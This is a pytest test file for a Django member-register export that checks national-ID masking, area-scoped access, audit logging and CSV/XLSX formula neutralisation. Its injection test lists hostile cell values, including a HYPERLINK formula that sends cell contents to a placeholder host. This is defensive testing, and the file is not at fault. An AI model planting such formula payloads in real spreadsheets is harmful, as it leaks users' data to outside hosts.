"""Exporting the register: CSV and XLSX hold the members in the exporter's area with masked
NIKs, neutralise spreadsheet formulas, and every export is audited with its row count."""

from __future__ import annotations

from typing import Any

import pytest
from django.test import Client

from sipsm.core.models import AuditEvent
from sipsm.registry.actions.members import register_member
from sipsm.registry.exports import HEADER
from sipsm.registry.models import Member
from sipsm.registry.tests.files import csv_text, register_counts, xlsx_cell_types, xlsx_rows
from sipsm.testing import World, member_data, synthetic_nik

pytestmark = pytest.mark.django_db

XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def export(client: Client, fmt: str, **params: str) -> tuple[Any, list[list[Any]]]:
    response = client.get(f"/anggota/ekspor.{fmt}", params)
    if response.status_code != 200:
        return response, []
    if fmt == "csv":
        content = b"".join(response.streaming_content)
        return response, csv_text(content)
    return response, [
        ["" if value is None else value for value in row] for row in xlsx_rows(response.content)
    ]


def names(rows: list[list[Any]]) -> list[str]:
    return [row[1] for row in rows[1:]]


def last_export() -> AuditEvent:
    return AuditEvent.objects.filter(verb="member.export").latest("id")


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_it_exports_the_members_of_the_area_with_masked_niks(
    world: World, client_for: Any, fmt: str
) -> None:
    response, rows = export(client_for("regency"), fmt)

    assert response.status_code == 200
    assert response["Content-Type"] == ("text/csv; charset=utf-8" if fmt == "csv" else XLSX_TYPE)
    assert response["Content-Disposition"].startswith('attachment; filename="anggota-')
    assert response["Content-Disposition"].endswith(f'.{fmt}"')
    assert response["Cache-Control"] == "no-store"
    assert rows[0] == HEADER
    assert names(rows) == ["Hasna Katili", "Nur Aisyah Hulopi", "Rahmat Gobel"]
    member = world.member_a
    nik = member.nik
    assert rows[2] == [
        member.kta_number,
        "Nur Aisyah Hulopi",
        "P",
        f"{nik[:4]} {nik[4:6]}** **** {nik[12:]}",
        world.village_a.code,
        world.village_a.chain,
        "'" + member.phone if member.phone else "",  # "+62…" would start a formula
        "active",
        "verified",
        "available",
        "logistics, first_aid",
        "2024-05-02",
        "",
        "",
        "",
    ]
    assert rows[3][2:4] == ["L", world.member_b.nik_masked]
    flat = repr(rows)
    for shown in (world.member_a, world.member_b, world.candidate_a):
        assert shown.nik not in flat
    assert world.member_far.full_name not in flat


@pytest.mark.parametrize(
    ("persona", "expected"),
    [
        ("national", ["Fitri Lamato", "Hasna Katili", "Nur Aisyah Hulopi", "Rahmat Gobel"]),
        ("province", ["Fitri Lamato", "Hasna Katili", "Nur Aisyah Hulopi", "Rahmat Gobel"]),
        ("regency", ["Hasna Katili", "Nur Aisyah Hulopi", "Rahmat Gobel"]),
        ("other_regency", ["Fitri Lamato"]),
    ],
)
def test_it_exports_only_the_exporters_area(
    world: World, client_for: Any, persona: str, expected: list[str]
) -> None:
    _response, rows = export(client_for(persona), "csv")

    assert names(rows) == expected
    event = last_export()
    assert event.actor == world.personas()[persona]
    assert event.data == {"format": "csv", "rows": len(expected), "filters": {}}


@pytest.mark.parametrize(
    ("params", "expected"),
    [
        ({"status": "active"}, ["Nur Aisyah Hulopi", "Rahmat Gobel"]),
        ({"stage": "applied"}, ["Hasna Katili"]),
        ({"q": "gobel"}, ["Rahmat Gobel"]),
        ({"region": "7501011002"}, ["Rahmat Gobel"]),
        ({"skill": "first_aid", "status": "candidate"}, ["Hasna Katili"]),
        ({"region": "75.03"}, []),
    ],
)
def test_it_applies_the_list_filters(
    world: World, client_for: Any, params: dict[str, str], expected: list[str]
) -> None:
    assert world.village_b.code == "75.01.01.1002"

    _response, rows = export(client_for("regency"), "xlsx", **params)

    assert rows[0] == HEADER
    assert names(rows) == expected
    assert last_export().data == {"format": "xlsx", "rows": len(expected), "filters": params}


def test_it_never_searches_or_records_a_nik_given_in_the_url(world: World, client_for: Any) -> None:
    nik = world.member_b.nik

    _response, rows = export(client_for("regency"), "csv", q=nik)

    assert names(rows) == []
    event = last_export()
    assert event.data == {
        "format": "csv",
        "rows": 0,
        "filters": {"q": f"{nik[:4]} {nik[4:6]}** **** {nik[12:]}"},
    }
    assert nik not in repr(event.data)


def test_it_refuses_an_invalid_filter_instead_of_exporting_everything(
    world: World, client_for: Any
) -> None:
    before = register_counts()

    response, _rows = export(client_for("regency"), "csv", skill="no-such-skill")

    assert response.status_code == 400
    assert register_counts() == before


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_it_neutralises_formulas_in_cells(world: World, client_for: Any, fmt: str) -> None:
    dangerous = [
        '=HYPERLINK("http://example.invalid/?x="&A1,"klik")',
        "+1",
        "@SUM(A1:A2)",
        "-2",
        "\tTab",
        "\x01=1+1",  # a control character hiding the formula (PostgreSQL refuses NUL)
    ]
    for index, name in enumerate(dangerous):
        register_member(
            acting_user=world.regency,
            data=member_data(
                world.village_b,
                full_name=name,
                nik=synthetic_nik(world.village_b),
                sk_number="=1+1" if index == 0 else "",
            ),
        )

    response, rows = export(client_for("regency"), fmt, region=world.village_b.code)

    by_name = sorted(names(rows))
    assert by_name == sorted(
        [
            '\'=HYPERLINK("http://example.invalid/?x="&A1,"klik")',
            "'+1",
            "'@SUM(A1:A2)",
            "'-2",
            "'\tTab",
            "'=1+1",
            "Rahmat Gobel",
        ]
    )
    hyperlink_row = next(row for row in rows if row[1].startswith("'=HYPERLINK"))
    assert hyperlink_row[HEADER.index("no_sk")] == "'=1+1"
    if fmt == "xlsx":
        types = {t for row in xlsx_cell_types(response.content) for t in row}
        assert "f" not in types  # no cell is stored as a formula


@pytest.mark.parametrize("persona", ["district", "village", "other_village", "partner"])
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_it_refuses_roles_without_the_export_capability(
    world: World, client_for: Any, persona: str, fmt: str
) -> None:
    before = register_counts()

    response = client_for(persona).get(f"/anggota/ekspor.{fmt}")

    assert response.status_code == 403
    assert world.member_a.full_name not in response.content.decode()
    assert register_counts() == before
    assert not AuditEvent.objects.filter(verb="member.export").exists()


def test_it_answers_404_for_an_unknown_format_without_auditing(
    world: World, client_for: Any
) -> None:
    before = register_counts()

    response = client_for("regency").get("/anggota/ekspor.pdf")

    assert response.status_code == 404
    assert register_counts() == before


def test_it_requires_a_login(world: World) -> None:
    response = Client().get("/anggota/ekspor.csv")

    assert response.status_code == 302
    assert response["Location"].startswith("/akun/login/")
    assert not AuditEvent.objects.filter(verb="member.export").exists()


def test_the_export_never_holds_a_full_nik(world: World, client_for: Any) -> None:
    niks = [member.nik for member in Member.objects.all() if member.nik]
    assert len(niks) == 4

    csv_response = client_for("national").get("/anggota/ekspor.csv")
    xlsx_response = client_for("national").get("/anggota/ekspor.xlsx")

    csv_body = b"".join(csv_response.streaming_content).decode("utf-8-sig")
    xlsx_body = repr(xlsx_rows(xlsx_response.content))
    for nik in niks:
        assert nik not in csv_body
        assert nik not in xlsx_body
        assert f"{nik[:4]} {nik[4:6]}** **** {nik[12:]}" in csv_body


def test_a_cell_keeps_printable_text_and_loses_control_characters() -> None:
    from sipsm.registry.exports import export_cell

    assert export_cell("Desa Sukamaju\u00a0Timur") == "Desa Sukamaju\u00a0Timur"
    assert export_cell("baris\tdua") == "baris\tdua"  # a tab inside is kept
    assert export_cell("\x02\x1f=HYPERLINK(1)") == "'=HYPERLINK(1)"
    assert export_cell("\x0bteks") == "teks"
    assert export_cell("-5") == "'-5"
    assert export_cell(-5) == -5
    assert export_cell(None) is None
